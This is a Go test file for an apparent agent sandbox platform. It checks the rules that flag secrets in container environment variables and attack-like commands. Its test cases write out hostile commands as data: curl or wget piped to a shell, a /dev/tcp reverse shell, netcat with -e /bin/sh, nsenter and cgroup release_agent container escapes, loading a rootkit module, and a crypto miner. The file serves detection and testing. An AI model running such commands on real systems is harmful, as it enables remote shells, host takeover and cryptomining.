// Copyright The Agent Sandbox Platform Authors.
// SPDX-License-Identifier: Apache-2.0

package policies_test

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/agent-sandbox-platform/agent-sandbox/policies"
	"github.com/agent-sandbox-platform/agent-sandbox/policies/engine"
)

// judgeBy returns a function that judges a Sandbox of one container by a rule of the library, with its own
// parameters, and returns what the rule names.
func judgeBy(t *testing.T, rule string) func(container map[string]any) []string {
	t.Helper()
	modules, err := policies.Library()
	if err != nil {
		t.Fatal(err)
	}
	e, err := engine.New()
	if err != nil {
		t.Fatal(err)
	}
	cfg := engine.Configuration{Rules: map[string]engine.RuleConfig{rule: {Enforcement: engine.Warn}}}
	if _, err := e.Load(context.Background(), modules, cfg); err != nil {
		t.Fatal(err)
	}
	return func(container map[string]any) []string {
		container["name"], container["image"] = "main", "python:3.12"
		pod := map[string]any{"spec": map[string]any{"containers": []any{container}}}
		decision := e.Evaluate(context.Background(), engine.Input{
			Operation: "CREATE", Kind: engine.KindSandbox, Pod: pod, Object: map[string]any{"spec": map[string]any{"podTemplate": pod}},
		})
		var found []string
		for _, f := range decision.Findings {
			if f.Rule == rule {
				found = append(found, f.Value)
			}
		}
		slices.Sort(found)
		return found
	}
}

// TestWhatCountsAsASecretByDefault holds the patterns of the rule to what people write.
func TestWhatCountsAsASecretByDefault(t *testing.T) {
	cases := map[string]struct {
		variables string
		want      []string
	}{
		"names of secrets": {
			"DB_PASSWORD=a API_KEY=a APIKEY=a OPENAI_API_KEY=a GITHUB_TOKEN=a AWS_SECRET_ACCESS_KEY=a client_secret=a " +
				"GOOGLE_CREDENTIALS=a DB_PASS=a",
			[]string{"APIKEY", "API_KEY", "AWS_SECRET_ACCESS_KEY", "DB_PASS", "DB_PASSWORD", "GITHUB_TOKEN", "GOOGLE_CREDENTIALS", "OPENAI_API_KEY", "client_secret"},
		},
		"names that only look so": {
			"MAX_TOKENS=4096 TOKENIZERS_PARALLELISM=false PASSWORD_FILE=/run/a KEY=a KEYBOARD=us COMPASS=north PWD=/workspace " +
				"SECRETARY=ann TOKEN=$(OTHER) API_KEY=", nil,
		},
		"values of secrets": {
			"A=AKIAIOSFODNN7EXAMPLE B=ghp_0123456789abcdefghijklmnopqrstuvwxyz C=sk-proj-0123456789abcdefghij D=xoxb-0123456789-a " +
				"E=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.c2ln F=glpat-0123456789abcdefghij G=hf_0123456789abcdefghijklmnopqrst " +
				"H=-----BEGIN_RSA_PRIVATE_KEY----- I=github_pat_0123456789abcdefghijkl J=AIza0123456789abcdefghijklmnopqrstuvwxy",
			[]string{"A", "B", "C", "D", "E", "F", "G", "H", "I", "J"},
		},
		"values that only look so": {
			"A=AKIA B=ghp_short C=sk-learn D=xoxo-hello E=eyJ F=-----BEGIN_CERTIFICATE----- G=task-0123456789abcdefghijklm", nil,
		},
	}
	judge := judgeBy(t, "literal-secrets")
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			var variables []any
			for field := range strings.FieldsSeq(tc.variables) {
				name, value, _ := strings.Cut(field, "=")
				if strings.HasPrefix(value, "-----") {
					value = strings.ReplaceAll(value, "_", " ")
				}
				variables = append(variables, map[string]any{"name": name, "value": value})
			}
			got := judge(map[string]any{"env": variables})
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("variables with a secret (-want +got):\n%s", diff)
			}
		})
	}
}

// TestWhatLooksLikeAnAttackByDefault holds the patterns of the rule to commands that people and attackers run.
func TestWhatLooksLikeAnAttackByDefault(t *testing.T) {
	const download, shell, node, miner = "a download that is run", "a reverse shell", "a way to the node", "a miner"
	cases := map[string]struct{ command, want string }{
		"an installer":               {"curl -fsSL 'https://example.com/install.sh?a=1&b=2' | sudo bash", download},
		"an installer by wget":       {"wget -qO- https://example.com/x|sh -s -- -y", download},
		"bash and a device":          {"bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'", shell},
		"an interactive shell":       {"bash -i", shell},
		"netcat with a program":      {"nc 192.0.2.1 443 -e /bin/sh", shell},
		"the namespaces of the node": {"nsenter -t 1 -m -u -i -n", node},
		"the first process":          {"cat /proc/1/environ", node},
		"a release agent":            {"echo /cmd > /sys/fs/cgroup/rdma/release_agent", node},
		"a kernel module":            {"insmod rootkit.ko", node},
		"a known miner":              {"./xmrig -o pool.example.com:3333", miner},
		"the protocol of a miner":    {"run --url stratum+tcp://pool.example.com:3333", miner},
		"a workspace":                {"sleep infinity", ""},
		"a download that is kept":    {"curl -fsSLo install.sh https://example.com/install.sh", ""},
		"a pipe that is no shell":    {"curl -s https://example.com/x | jq .", ""},
		"a server":                   {"python -m http.server 8080 --directory /workspace", ""},
		"a port that is tried":       {"nc -z localhost 8080", ""},
		"another process":            {"cat /proc/17/status", ""},
		"a shell":                    {"bash -c 'make test'", ""},
	}
	judge := judgeBy(t, "command-patterns")
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			var want []string
			if tc.want != "" {
				want = []string{tc.want}
			}
			got := judge(map[string]any{"command": []any{"sh", "-c"}, "args": []any{tc.command}})
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("it looks like (-want +got):\n%s", diff)
			}
		})
	}
}
